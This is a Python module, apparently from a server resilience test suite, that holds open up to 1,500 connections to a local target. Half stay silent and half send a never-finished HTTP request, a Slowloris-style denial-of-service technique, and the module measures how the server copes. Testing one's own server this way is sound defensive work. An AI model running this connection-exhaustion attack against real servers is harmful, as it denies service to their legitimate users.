"""Connections that are held open: silent ones and half-sent requests, from one address and from many."""

import asyncio

from attacks.target import Row, Target
from attacks.wire import Wire, connect, is_let_in

HALF = b"GET /api/games HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
WANTED = 1_500
ADDRESSES = 30
NEWCOMERS = 20
REQUEST_SECONDS = 40.0  # later than any request may arrive


async def hold(target: Target, first: int, addresses: int) -> list[Wire]:
    """As many connections as the server takes: half of them silent, half with a request that never ends."""
    found: list[Wire] = []
    for number in range(WANTED):
        try:
            wire = await asyncio.wait_for(connect(target, first + number % addresses), 1.0)
        except (OSError, TimeoutError):
            break
        wire[1].write(HALF if number % 2 else b"")
        found.append(wire)
    return found


def still_open(wires: list[Wire]) -> int:
    return sum(not reader.at_eof() and reader.exception() is None for reader, _ in wires)


async def newcomers(target: Target) -> float:
    answers = [await is_let_in(target, 500 + number) for number in range(NEWCOMERS)]
    return float(sum(answers))


async def attack(target: Target) -> list[Row]:
    alone = await hold(target, 0, 1)
    await asyncio.sleep(1.0)
    kept = still_open(alone)
    crowd = await hold(target, 1, ADDRESSES)
    let_in = await newcomers(target)
    await asyncio.sleep(REQUEST_SECONDS)
    late = still_open([*alone, *crowd])
    for _, writer in (*alone, *crowd):
        writer.close()
    return [
        (f"connections of one address that stay, of {WANTED:,}", float(kept), ""),
        (f"newcomers that are let in meanwhile, of {NEWCOMERS}", let_in, ""),
        ("held connections that are still open after 40 s", float(late), ""),
    ]
